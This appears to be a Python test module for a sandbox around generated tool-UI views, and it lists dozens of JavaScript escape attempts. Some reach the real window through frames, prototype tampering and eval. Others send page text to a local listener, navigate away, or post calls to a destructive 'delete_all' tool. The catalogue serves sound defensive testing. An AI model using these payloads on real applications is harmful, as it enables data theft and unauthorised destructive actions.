"""Attempts of a script to get the window and to get data out of the page.

Each is the body of an async function in a view's ``render``. ``ui`` is the kit, ``give`` takes a value
that may be the window, and ``w`` is the best window so far. ``URL`` and ``PORT`` are those of a local listener.
"""

import contextlib
import json
import re
import socket
import threading
from base64 import b64encode
from hashlib import sha256
from typing import Final

from genui_core.application.services import BuiltViewKit
from genui_core.domain.pages.generated_page import view_page
from genui_core.domain.pages.minimal_view import page_data
from genui_core.domain.pages.page_frame import PagePolicy
from genui_core.domain.settings.settings import Settings
from genui_core.domain.tools.tool import Tool

_EXPRESSIONS: Final = {
    "map": "[0].map(() => window)[0]",
    "map of documents": "[document].map((each) => each.defaultView)[0]",
    "Array.from": "Array.from([0], () => window)[0]",
    "flatMap": "[0].flatMap(() => window)[0]",
    "reduce": "[0].reduce(() => window, 0)",
    "find": "[window].find(Boolean)",
    "filter": "[document].filter(Boolean)[0].defaultView",
    "at": "[document].at(0).defaultView",
    "fill": "[0].fill(window)[0]",
    "with": "[0].with(0, window)[0]",
    "toSpliced": "[0].toSpliced(0, 1, window)[0]",
    "reviver": "JSON.parse('0', () => window)",
    "iterator": "[0].values().map(() => window).next().value",
    "generator": "(function* () { yield window })().next().value",
    "Reflect.apply": "Reflect.apply(() => window, null, [])",
    "call": "(() => window).call()",
    "bind": "(() => window).bind()()",
    "proxy": "new Proxy(() => 0, { apply: () => window })()",
    "proxy of a property": "new Proxy({}, { get: () => window }).any",
    "accessor": "({ get any() { return window } }).any",
    "static block": "(() => { class A { static w; static { this.w = window } } return A.w })()",
    "WeakRef": "new WeakRef(window).deref()",
    "tag": "((s) => window)`x`",
    "default value": "((a = window) => a)()",
    "thrown": "(() => { try { throw window } catch (e) { return e } })()",
    "await": "await (async () => window)()",
    "then": "await Promise.resolve(0).then(() => window)",
    "Promise.all": "(await Promise.all([0].map(() => window)))[0]",
    "groupBy": "Object.groupBy([window], () => 'a').a[0]",
    "Map.groupBy": "Map.groupBy([window], () => 'a').get('a')[0]",
    "entries": "Object.entries({ a: window })[0][1]",
    "fromEntries": "Object.fromEntries([['a', window]]).a",
    "spread": "({ ...{ a: window } }).a",
    "replace": "(() => { let z; 'a'.replace('a', () => { z = window; return '' }); return z })()",
    "sort": "(() => { let z; [1, 2].sort(() => { z = window; return 0 }); return z })()",
    "assigned name": "(() => { let y; y = window; return y })()",
    "assigned property": "(() => { const o = {}; o.w = window; return o.w })()",
    "members of the window": "({ ...window }).parent",
    "prototype of the window object": "Object.getPrototypeOf(window)",
    "entries of the window": "Object.entries(window).find(([key]) => key === 'parent')?.[1]",
    "loop over the window": "(() => { for (const key in window) if (key === 'parent') return window[key] })()",
    "descriptor of the parent": "Object.getOwnPropertyDescriptor(window, 'parent')?.get?.call()",
    "descriptors of the window": "Object.getOwnPropertyDescriptors(globalThis).parent?.get?.call()",
    "getter of the prototype": "Window.prototype.__lookupGetter__?.('parent')?.call(window)",
    "this that is given": "(function () { return this }).call(window)",
    "argument": "((f) => f(window))((w) => w)",
    "proxy of the window": "new Proxy(window, {}).parent",
    "owner": "document.body.ownerDocument.defaultView",
    "getter of defaultView": "Object.getOwnPropertyDescriptor(Document.prototype, 'defaultView').get.call(document)",
    "free this": "(function () { return this })()",
    "this of concat": "[].concat.call.call(function () { return this }, undefined)",
    "this of a kit function": "ui.el.call(undefined, 'p', { onclick() { give(this) } })",
    "code from text": "(() => {}).constructor('return this')()",
    "code from text, async": "await (async () => {}).constructor('return this')()",
    "indirect eval": "(0, eval)('this')",
    "popup": "open('about:blank')",
    "picture in picture": "await documentPictureInPicture.requestWindow()",
    "document.open": "document.open('about:blank', 'x', '')",
    "valueOf": "valueOf()",
    "prototype of the window": "Object.getOwnPropertyDescriptor(Window.prototype, 'window')?.get?.call(undefined)",
    "selection": "(getSelection().selectAllChildren(document.body), getSelection().getRangeAt(0).startContainer.ownerDocument.defaultView)",
    "module": "(await import('data:text/javascript,export default globalThis')).default",
}
_STATEMENTS: Final = {
    "names": "give(window); give(self); give(globalThis); give(frames); give(parent); give(top)",
    "this of a timer": "setTimeout(function () { give(this) })",
    "this of an interval": "const i = setInterval(function () { clearInterval(i); give(this) }, 5)",
    "composedPath": "document.addEventListener('s1', (e) => give(e.composedPath().at(-1)), { once: true }); document.dispatchEvent(new Event('s1', { bubbles: true }))",
    "free listener": "addEventListener('s2', function (e) { give(this); give(e.currentTarget); give(e.target) }); document.dispatchEvent(new Event('s2', { bubbles: true }))",
    "stray listener": "const f = document.addEventListener; f('s3', function (e) { give(this); give(e.currentTarget) }); document.dispatchEvent(new Event('s3', { bubbles: true }))",
    "listener object": "EventTarget.prototype.addEventListener.call(undefined, 's4', { handleEvent(e) { give(e.currentTarget); give(e.srcElement) } }); document.dispatchEvent(new Event('s4', { bubbles: true }))",
    "observable": "EventTarget.prototype.when.call(undefined, 's5').subscribe((e) => give(e.currentTarget)); document.dispatchEvent(new Event('s5', { bubbles: true }))",
    "view of an event": "const b = document.createElement('button'); b.onclick = (e) => give(e.view); b.click()",
    "stack": "Error.prepareStackTrace = (_, s) => { for (const c of s) give(c.getThis?.()); return '' }; void new Error('x').stack",
    "handler of the window": "onresize = function () { give(this) }; dispatchEvent(new Event('resize'))",
    "handler of the body": "document.body.onresize = function () { give(this) }; document.body.onblur = function () { give(this) }; dispatchEvent(new Event('resize')); dispatchEvent(new Event('blur'))",
    "handler of a disguised body": "Object.defineProperty(HTMLBodyElement, Symbol.hasInstance, { configurable: true, value: () => false }); try { document.body.onresize = function () { give(this) }; dispatchEvent(new Event('resize')) } finally { delete HTMLBodyElement[Symbol.hasInstance] }",
    "setter of a handler": "Object.getOwnPropertyDescriptor(HTMLElement.prototype, 'onblur').set.call(document.body, function () { give(this) }); dispatchEvent(new Event('blur'))",
    "missing name": "Object.defineProperty(Object.prototype, 'missingName', { configurable: true, get() { give(this); return 1 } }); void missingName; delete Object.prototype.missingName",
    "missing name, other prototype": "Object.defineProperty(EventTarget.prototype, 'missingName2', { get() { give(this); return 1 } }); void missingName2",
    "prototype of a prototype": "Object.setPrototypeOf(EventTarget.prototype, { get missingName3() { give(this); return 1 } }); void missingName3",
    "name of Object.prototype": "Object.defineProperty(Object.prototype, 'propertyIsEnumerable', { configurable: true, get() { give(this); return () => false } }); void propertyIsEnumerable",
    "array of a path": "const f = Array.prototype.filter; Array.prototype.filter = function (g) { for (let i = 0; i < this.length; i++) give(this[i]); return f.call(this, g) }; document.addEventListener('s6', (e) => e.composedPath()); document.dispatchEvent(new Event('s6', { bubbles: true })); Array.prototype.filter = f",
    "replaced call": "const c = Function.prototype.call; Function.prototype.call = function (t, ...a) { give(t); return Reflect.apply(this, t, a) }; try { ui.table([{ a: 1 }]); document.dispatchEvent(new Event('s7', { bubbles: true })) } finally { Function.prototype.call = c }",
    "replaced Reflect": "const r = Reflect.apply; Reflect.apply = (f, t, a) => { give(t); return r(f, t, a) }; try { document.createElement('p'); setTimeout(() => {}) } finally { Reflect.apply = r }",
    "replaced listener": "const was = EventTarget.prototype.addEventListener; EventTarget.prototype.addEventListener = function (...a) { give(this); return was.apply(this, a) }; ui.table([{ a: 1 }, { a: 2 }])",
    "replaced global": "requestAnimationFrame = function (f) { give(this) }; ui.root.style.height = '600px'",
    "frame": "const f = document.createElement('iframe'); document.body.append(f); give(f.contentWindow.parent)",
    "frame of a namespace": "const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'); document.body.append(f); give(f.contentWindow.parent)",
    "frame of a document": "const f = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe', null).documentElement; document.body.append(f); give(f.contentWindow.parent)",
    "frame of a class": "class X extends HTMLIFrameElement {} customElements.define('x-held-frame', X, { extends: 'iframe' }); const f = new X(); document.body.append(f); give(f.contentWindow.parent)",
    "frame of markup": "const p = document.createElement('p'); document.body.append(p); p.innerHTML = '<iframe></iframe>'; give(p.firstChild.contentWindow.parent)",
    "frame of late markup": "let n = 0; const p = document.createElement('p'); document.body.append(p); p.innerHTML = { toString: () => n++ ? '<iframe></iframe>' : '' }; give(p.firstChild.contentWindow.parent)",
    "frame of a late name": "let n = 0; const f = document.createElement({ toString: () => n++ ? 'iframe' : 'b' }); document.body.append(f); give(f.contentWindow.parent)",
    "frame of a template": "const t = document.createElement('template'); t.innerHTML = '<iframe></iframe>'; const f = document.importNode(t.content, true).firstChild; document.body.append(f); give(f.contentWindow.parent)",
    "frame of a parser": "const f = new DOMParser().parseFromString('<iframe></iframe>', 'text/html').querySelector('iframe'); document.body.append(f); give(f.contentWindow.parent)",
    "frame of XML": "const f = new DOMParser().parseFromString('<h:iframe xmlns:h=\"http://www.w3.org/1999/xhtml\"/>', 'application/xhtml+xml').documentElement; document.body.append(f); give(f.contentWindow.parent)",
    "frame of an entity": "const f = new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e \"&#60;iframe xmlns=\\'http://www.w3.org/1999/xhtml\\'/>\">]><a>&e;</a>', 'text/xml').querySelector('iframe'); document.body.append(f); give(f.contentWindow.parent)",
    "frame of a range": "const f = document.createRange().createContextualFragment('<iframe></iframe>').firstChild; document.body.append(f); give(f.contentWindow.parent)",
    "frame beside": "document.body.insertAdjacentHTML('beforeend', '<iframe id=f9></iframe>'); give(document.querySelector('#f9').contentWindow.parent)",
    "frame unsafe": "const p = document.createElement('p'); document.body.append(p); p.setHTMLUnsafe('<iframe></iframe>'); give(p.firstChild.contentWindow.parent)",
    "frame of safe markup": "const p = document.createElement('p'); document.body.append(p); p.setHTML('<iframe></iframe>', { sanitizer: {} }); give(p.firstChild.contentWindow.parent)",
    "frame of a safe document": "const f = Document.parseHTML('<object></object><iframe></iframe>', { sanitizer: {} }).querySelector('iframe'); document.body.append(f); give(f.contentWindow.parent)",
    "frame of an unsafe document": "const f = Document.parseHTMLUnsafe('<iframe></iframe>').querySelector('iframe'); document.body.append(f); give(f.contentWindow.parent)",
    "frame of a command": "const p = document.createElement('p'); p.contentEditable = 'true'; document.body.append(p); p.focus(); getSelection().selectAllChildren(p); document.execCommand('insertHTML', false, '<iframe></iframe>'); give(p.querySelector('iframe').contentWindow.parent)",
    "frame of mutated markup": "const p = document.createElement('p'); document.body.append(p); p.innerHTML = '<svg></p><style><a id=\"</style><iframe id=fm></iframe>\">'; const q = document.createElement('div'); document.body.append(q); q.innerHTML = p.innerHTML; give(document.querySelector('#fm').contentWindow.parent)",
    "object": "const f = document.createElement('object'); f.data = 'about:blank'; f.type = 'text/html'; document.body.append(f); setTimeout(() => give(f.contentWindow.parent), 50)",
    "replaced exec": "const was = RegExp.prototype.exec; RegExp.prototype.exec = () => null; const p = document.createElement('p'); document.body.append(p); try { p.innerHTML = '<iframe></iframe>' } finally { RegExp.prototype.exec = was } give(p.firstChild.contentWindow.parent)",
    "script": "const s = document.createElement('script'); s.textContent = 'document.documentElement.ran = window'; document.head.append(s); give(document.documentElement.ran)",
    "handler as text": "const b = document.createElement('b'); b.setAttribute('onclick', 'document.documentElement.ran2 = window'); b.click(); give(document.documentElement.ran2)",
    "timer of text": "setTimeout('document.documentElement.ran3 = window'); setTimeout(() => give(document.documentElement.ran3), 50)",
    "address of code": "const a = document.createElement('a'); a.href = 'javascript:document.documentElement.ran4=window'; document.body.append(a); a.click(); setTimeout(() => give(document.documentElement.ran4), 50)",
}
SPELLINGS: Final = {name: f"give({text})" for name, text in _EXPRESSIONS.items()} | _STATEMENTS

_TURN = "{ iceServers: [{ urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'secret', credential: 'x' }] }"
_OFFER = "p.createDataChannel('a'); p.createOffer().then((o) => p.setLocalDescription(o))"
CHANNELS: Final = {
    "peer connection": f"const p = new w.RTCPeerConnection({_TURN}); {_OFFER}",
    "peer connection, old name": f"const p = new w.webkitRTCPeerConnection({_TURN}); {_OFFER}",
    "peer connection, plain name": f"const p = new RTCPeerConnection({_TURN}); {_OFFER}",
    "peer connection of a frame": f"const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({_TURN}); {_OFFER}",
    "fetch": "await fetch('URL')",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'URL'); x.send()",
    "WebSocket": "new WebSocket('URL'.replace('http', 'ws'))",
    "EventSource": "new EventSource('URL')",
    "beacon": "navigator.sendBeacon('URL', 'secret')",
    "worker": "new Worker(window.URL.createObjectURL(new Blob([\"fetch('URL')\"])))",
    "image": "new Image().src = 'URL'",
    "style": "ui.root.style.backgroundImage = \"url('URL')\"",
    "import of a style": "const s = document.createElement('style'); s.textContent = \"@import 'URL'\"; document.head.append(s)",
    "font": "await new FontFace('x', \"url('URL')\").load()",
    "preconnect": "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'URL'; document.head.append(l)",
    "preconnect of markup": "const p = document.createElement('p'); document.body.append(p); p.innerHTML = '<link rel=preconnect href=\"URL\">'",
    "preconnect of safe markup": "const p = document.createElement('p'); document.body.append(p); p.setHTML('<link rel=preconnect href=\"URL\">', { sanitizer: {} })",
    "preconnect of a safe document": "document.body.append(Document.parseHTML('<link rel=preconnect href=\"URL\">', { sanitizer: {} }).querySelector('link'))",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'URL'; document.head.append(l)",
    "script": "const s = document.createElement('script'); s.src = 'URL'; document.head.append(s)",
    "module": "await import('URL')",
    "frame": "const f = document.createElement('iframe'); f.src = 'URL'; document.body.append(f)",
    "frame of markup": "const p = document.createElement('p'); document.body.append(p); p.innerHTML = '<iframe src=\"URL\"></iframe>'",
    "frame that refreshes": "const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=refresh content=\"0;url=URL\">'; document.body.append(f)",
    "object": "const f = document.createElement('object'); f.data = 'URL'; document.body.append(f)",
    "embed": "const f = document.createElement('embed'); f.src = 'URL'; document.body.append(f)",
    "video": "const v = document.createElement('video'); v.src = 'URL'; document.body.append(v); v.load()",
    "poster": "const v = document.createElement('video'); v.poster = 'URL'; document.body.append(v)",
    "button of a picture": "const i = document.createElement('input'); i.type = 'image'; i.src = 'URL'; document.body.append(i)",
    "worklet": "await CSS.paintWorklet.addModule('URL')",
    "worklet of sounds": "await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('URL')",
    "track": "const v = document.createElement('video'); const t = document.createElement('track'); t.src = 'URL'; t.default = true; v.append(t); document.body.append(v); v.textTracks[0].mode = 'showing'",
    "picture of a drawing": 'ui.root.innerHTML += \'<svg><image href="URL"/><use href="URL#a"/></svg>\'',
}
PICTURES: Final = {
    "picture": "const i = document.createElement('img'); i.src = 'URL'; document.body.append(i)",
    "picture of an attribute": "const i = document.createElement('img'); i.setAttribute('src', 'URL'); document.body.append(i)",
    "picture of the kit": "ui.root.append(ui.el('img', { src: 'URL' }))",
    "pictures of a set": "const i = new Image(); i.srcset = 'URL 1x'; document.body.append(i)",
    "picture of a name": "const i = new Image(); i['s' + 'rc'] = 'URL'; document.body.append(i)",
    "picture with a secret": "new Image().src = 'URL' + encodeURIComponent(document.body.textContent)",
    "sound": "const a = new Audio('URL'); a.load(); a.play().catch(() => {})",
    "film": "const v = document.createElement('video'); v.src = 'URL'; v.poster = 'URL'; document.body.append(v); v.load()",
    "source of a film": "const v = document.createElement('video'); const s = document.createElement('source'); s.src = 'URL'; v.append(s); document.body.append(v); v.load()",
    "background": "ui.root.style.backgroundImage = \"url('URL')\"",
    "background of a style": "const s = document.createElement('style'); s.textContent = \"body { background: url('URL') }\"; document.body.append(s)",
    "background of a sheet": "const s = new CSSStyleSheet(); s.replaceSync(\"body { background: url('URL') }\"); document.adoptedStyleSheets = [s]",
    "background of an animation": "ui.root.animate([{ backgroundImage: \"url('URL')\" }, { backgroundImage: 'none' }], 1000)",
    "cursor": "document.body.style.cursor = \"url('URL'), auto\"",
    "list": "const l = document.createElement('li'); l.style.listStyleImage = \"url('URL')\"; l.textContent = 'x'; document.body.append(l)",
    "content": "const p = document.createElement('p'); p.style.content = \"url('URL')\"; document.body.append(p)",
    "markup": 'ui.root.insertAdjacentHTML(\'beforeend\', \'<img alt="" src="URL"><video src="URL" poster="URL"></video>\')',
    "drawing": "const v = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', 'URL'); v.append(i); document.body.append(v)",
    "drawing, value": "const v = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.href.baseVal = 'URL'; v.append(i); document.body.append(v)",
    "command": "const p = document.createElement('p'); p.contentEditable = 'true'; p.textContent = 'x'; document.body.append(p); p.focus(); getSelection().selectAllChildren(p); document.execCommand('insertImage', false, 'URL')",
    "picture of a parsed document": "document.body.append(document.importNode(new DOMParser().parseFromString('<img src=\"URL\">', 'text/html').body.firstChild, true))",
}
"""Pictures, films and sounds from outside: the validator only warns about them."""
LINKS: Final = {
    "link": "const a = document.createElement('a'); a.href = 'URL'; document.body.append(a); a.addEventListener('click', (e) => e.stopImmediatePropagation()); a.click()",
    "link, event that cannot be cancelled": "const a = document.createElement('a'); a.href = 'URL'; document.body.append(a); a.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true, cancelable: false }))",
    "link, with a replaced function": "const was = Event.prototype.preventDefault; Event.prototype.preventDefault = () => {}; const a = document.createElement('a'); a.href = 'URL'; document.body.append(a); a.click(); Event.prototype.preventDefault = was",
    "part of a link": "const a = document.createElement('a'); a.href = 'URL'; const b = document.createElement('b'); a.append(b); document.body.append(a); b.click()",
    "area": "const m = document.createElement('map'); const a = document.createElement('area'); a.href = 'URL'; m.append(a); document.body.append(m); a.click()",
    "detached link": "const a = document.createElement('a'); a.href = 'URL'; a.click()",
    "detached link, event": "const a = document.createElement('a'); a.href = 'URL'; a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))",
    "detached link, bare event": "const a = document.createElement('a'); a.href = 'URL'; a.dispatchEvent(new Event('click'))",
    "detached link, event of another kind": "const a = document.createElement('a'); a.href = 'URL'; a.dispatchEvent(new PointerEvent('click')); a.dispatchEvent(new FocusEvent('click'))",
    "detached link, middle button": "const a = document.createElement('a'); a.href = 'URL'; a.dispatchEvent(new MouseEvent('auxclick', { button: 1 }))",
    "detached link, old event": "const a = document.createElement('a'); a.href = 'URL'; const e = document.createEvent('MouseEvents'); e.initMouseEvent('click', true, true); a.dispatchEvent(e)",
    "part of a detached link": "const a = document.createElement('a'); a.href = 'URL'; const b = document.createElement('b'); a.append(b); b.click(); b.dispatchEvent(new MouseEvent('click', { bubbles: true }))",
    "detached link, heard before": "const d = document.createElement('div'); const a = document.createElement('a'); a.href = 'URL'; d.append(a); d.addEventListener('mcp-gen-ui-path', (e) => e.stopImmediatePropagation(), true); a.click()",
    "link in a closed root": "const h = document.createElement('div'); document.body.append(h); const s = h.attachShadow({ mode: 'closed' }); const a = document.createElement('a'); a.href = 'URL'; s.append(a); a.click()",
    "link in a root, event that stays there": "const h = document.createElement('div'); document.body.append(h); const s = h.attachShadow({ mode: 'open' }); const a = document.createElement('a'); a.href = 'URL'; s.append(a); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))",
    "link in a root, event that ends at its host": "const h = document.createElement('div'); document.body.append(h); const s = h.attachShadow({ mode: 'open' }); const a = document.createElement('a'); a.href = 'URL'; s.append(a); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true, relatedTarget: h }))",
    "link around a slot": "const h = document.createElement('div'); const s = h.attachShadow({ mode: 'closed' }); const a = document.createElement('a'); a.href = 'URL'; a.append(document.createElement('slot')); s.append(a); const b = document.createElement('b'); h.append(b); b.click()",
    "link in a declared root": "const h = document.createElement('div'); document.body.append(h); h.setHTMLUnsafe('<p><template shadowrootmode=closed><a href=\"URL\"><slot></slot></a></template><b></b></p>'); h.querySelector('b').click()",
    "link of SVG": "const s = document.createElementNS('http://www.w3.org/2000/svg', 'a'); s.setAttribute('href', 'URL'); s.dispatchEvent(new MouseEvent('click'))",
    "link of SVG, old name": "const v = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const s = document.createElementNS('http://www.w3.org/2000/svg', 'a'); s.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', 'URL'); v.append(s); document.body.append(v); s.addEventListener('click', (e) => e.stopImmediatePropagation()); s.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))",
    "link that is kept as a download": "const was = URL.createObjectURL; window.URL.createObjectURL = () => 'URL'; try { ui.download?.('a', 'b') } finally { window.URL.createObjectURL = was }",
    "form": "const f = document.createElement('form'); f.action = 'URL'; document.body.append(f); HTMLFormElement.prototype.submit.call(f)",
    "button of a form": "const f = document.createElement('form'); f.action = 'URL'; const b = document.createElement('button'); f.append(b); document.body.append(f); b.click()",
    "link in a declared root of safe markup": "const h = document.createElement('div'); document.body.append(h); h.setHTML('<p><template shadowrootmode=closed><a href=\"URL\"><slot></slot></a></template><b></b></p>', { sanitizer: {} }); h.querySelector('b').click()",
    "form in a root": "const h = document.createElement('div'); document.body.append(h); const s = h.attachShadow({ mode: 'open' }); const f = document.createElement('form'); f.action = 'URL'; s.append(f); f.requestSubmit()",
    "refresh of a copy": "const m = document.querySelector('meta').cloneNode(); m.removeAttribute('name'); m.removeAttribute('charset'); m.httpEquiv = 'refresh'; m.content = '0;url=URL'; document.head.append(m)",
    "refresh of an imported copy": "const m = document.importNode(document.querySelector('meta')); m.setAttribute('Http-Equiv', 'refresh'); m.content = '0;url=URL'; document.head.append(m)",
    "refresh in place": "const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; m.httpEquiv = 'refresh'",
    "refresh of a policy": "const m = document.querySelector('meta[http-equiv]'); m.attributes[0].value = 'refresh'; m.content = '0;url=URL'; document.head.append(m)",
    "refresh of a node's value": "const m = document.querySelector('meta[http-equiv]'); m.attributes[0].nodeValue = 'refresh'; m.content = '0;url=URL'; document.head.append(m)",
    "refresh of a node's text": "const m = document.querySelector('meta[http-equiv]'); m.attributes[0].textContent = 'refresh'; m.content = '0;url=URL'; document.head.append(m)",
    "refresh of a node": "const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; const a = document.createAttribute('http-equiv'); a.value = 'refresh'; m.setAttributeNode(a)",
    "refresh of a named item": "const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; const a = document.createAttributeNS(null, 'http-equiv'); a.value = 'refresh'; m.attributes.setNamedItemNS(a)",
    "refresh of a moved node": "const p = document.createElement('p'); p.innerHTML = '<b http-equiv=refresh></b>'; const a = p.firstChild.removeAttributeNode(p.firstChild.attributes[0]); const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; m.attributes.setNamedItem(a)",
    "refresh of a namespace": "const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; m.setAttributeNS(null, 'http-equiv', 'refresh')",
    "refresh of a late name": "let n = 0; const m = document.querySelector('meta[name]'); m.content = '0;url=URL'; m.setAttribute({ toString: () => n++ ? 'http-equiv' : 'title' }, 'refresh')",
    "refresh of markup": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=URL\">'",
    "refresh of safe markup": "const p = document.createElement('p'); document.body.append(p); p.setHTML('<meta http-equiv=refresh content=\"0;url=URL\">', { sanitizer: {} })",
    "refresh of a safe document": "document.head.append(Document.parseHTML('<meta http-equiv=refresh content=\"0;url=URL\">', { sanitizer: {} }).querySelector('meta'))",
    "refresh of a new element": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=URL'; document.head.append(m)",
    "location": "w.location.assign('URL'); w.location.href = 'URL'; location = 'URL'",
    "navigation": "w.navigation.navigate('URL')",
}

_CALL = "{ jsonrpc: '2.0', id: 991, method: 'tools/call', params: { name: 'delete_all', arguments: { way: 'WAY' } } }"
CALLS: Final = {
    "parent": f"w.parent.postMessage({_CALL}, '*')",
    "frames of the top": f"for (let i = 0; i < 3; i++) w.top[i]?.postMessage({_CALL}, '*')",
    "source of a message": f"addEventListener('message', (e) => e.source.postMessage({_CALL}, '*')); w.addEventListener('message', (e) => e.source.postMessage({_CALL}, '*'))",
    "handler of messages": f"onmessage = (e) => e.source.postMessage({_CALL}, '*')",
    "transport of the kit": f"new w.McpGenUi.PostMessageTransport().send({_CALL})",
    "App of the kit": "const a = new w.McpGenUi.App({ name: 'a', version: '1' }); await a.connect(); await a.callServerTool({ name: 'delete_all', arguments: { way: 'WAY' } })",
    "kit": "await ui.call('delete_all', { way: 'WAY' })",
    "parent of a frame": f"const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.parent.parent.postMessage({_CALL}, '*')",
}

OPEN: Final = {
    "address of the document": "document.location = 'URL'",
    "address of a node's document": "document.body.ownerDocument.location.assign('URL')",
    "address of the root of a node": "document.body.getRootNode().location.replace('URL')",
}
"""The attempts that no layer stops."""
LAYERS: Final = ("none", "policy", "guard", "names", "all")
"""Each entry includes those before it: the policy, the guard without the names, the names, the gate for calls."""


def _named(attempts: dict[str, str], *begins: str, but: bool = False) -> dict[str, str]:
    return {name: body for name, body in attempts.items() if name.startswith(begins) != but}


_REALMS: Final = ("frame", "object", "popup", "picture in picture")
_BY_KIT: Final = ("transport", "App", "kit")
GROUPS: Final = {
    "the window": _named(SPELLINGS, *_REALMS, but=True),
    "a fresh realm": _named(SPELLINGS, *_REALMS),
    "network: requests of all kinds": _named(CHANNELS, "peer", but=True),
    "network: WebRTC to a TURN server": _named(CHANNELS, "peer"),
    "navigation: links, forms, refreshes": LINKS,
    "navigation: the document's address": OPEN,
    "call of a destructive tool: other windows": _named(CALLS, *_BY_KIT, but=True),
    "call of a destructive tool: the runtime": _named(CALLS, *_BY_KIT),
}

TOOL: Final = {"name": "tool", "inputSchema": {"type": "object"}}
BATCH = """<template><p>Here</p></template>
<script>function render(data, ui) {
  const got = ui.root.dataset;
  const attempts = {
%s
  };
  let w;
  const best = () => { for (const each of [window, document.defaultView, self]) if (each) return each; };
  const run = async () => {
    w = best();
    for (const [name, attempt] of Object.entries(attempts)) {
      const give = (value) => { try { if (value?.realMark === "real") got[`t${Object.keys(attempts).indexOf(name)}`] = name; } catch { got[`t${Object.keys(attempts).indexOf(name)}`] = name; } };
      try { await Promise.race([attempt(give), new Promise((done) => setTimeout(done, 150))]); } catch { /* stopped */ }
    }
    setTimeout(() => { got.done = "1"; }, 200);
  };
  run();
}</script>"""
_ADDRESS = re.compile(r"(?<![\w.])URL(?=\\?['\"#])")
DOCUMENT = """<!DOCTYPE html><html lang="en"><head><title>a</title></head><body><div id="root"></div><script type="module">
import {{ App }} from "@modelcontextprotocol/ext-apps";
import {{ ui as kit }} from "@mcp-gen-ui/kit";
const app = new App({{ name: "a", version: "1" }});
{script}
app.ontoolresult = () => render({{}}, {{ ...kit, root: document.getElementById("root") }});
await app.connect();
</script></body></html>"""


def source_of(attempts, mode, port=0):
    """Return a view that makes all attempts; ``port`` is that of a listener, or a port for each attempt."""
    ports = port if isinstance(port, dict) else dict.fromkeys(attempts, port)
    bodies = ",\n".join(
        f"{json.dumps(name)}: async (give) => {{ {_filled(name, body, ports[name])} }}"
        for name, body in attempts.items()
    )
    fragment = BATCH % bodies
    if mode == "fragment":
        return fragment
    return DOCUMENT.format(script=fragment.partition("<script>")[2].partition("</script>")[0])


def _filled(name, body, port):
    body = _ADDRESS.sub(f"http://127.0.0.1:{port}/?secret", body).replace("'WAY'", json.dumps(name))
    return body.replace("PORT", str(port))


def page_of(attempts, mode, layers, port=0):
    """Return the page of all attempts; unless ``layers`` is ``all``, it has fewer layers than a served page."""
    related = () if layers == "all" else ("delete_all",)
    guarded = layers not in ("none", "policy")
    data = page_data(Tool(TOOL), Settings(default_theme="system", page_policy=guarded), related=related)
    source = source_of(attempts, mode, port)
    policy = PagePolicy(is_on=layers != "none")
    page = view_page(Tool(TOOL), data, BuiltViewKit(), source, mode, policy=policy)
    return _without_names(page) if layers == "guard" else page


def _without_names(page):
    """Return the page of a fragment whose script sees the names that lead to the window."""
    script = re.search(r"<script>(McpGenUi\.fragment.*?)</script>", page, re.DOTALL)[1]
    bare = re.sub(
        r"^McpGenUi\.fragment\(\[.*?\], function \(.*?\) {", "McpGenUi.fragment([], function () {", script
    )
    assert bare != script
    before, after = (_hash_of(each) for each in (script, bare))
    assert before in page
    return page.replace(script, bare).replace(before, after)


def _hash_of(script):
    return b64encode(sha256(script.encode()).digest()).decode()


@contextlib.contextmanager
def listener():
    """Listen on this machine; yield the port and the list of what arrived there."""
    heard = []
    with socket.socket() as ear:
        ear.bind(("127.0.0.1", 0))
        ear.listen(50)

        def hear():
            with contextlib.suppress(OSError):
                while True:
                    caller, _ = ear.accept()
                    heard.append(caller)
                    caller.close()

        threading.Thread(target=hear, daemon=True).start()
        yield ear.getsockname()[1], heard
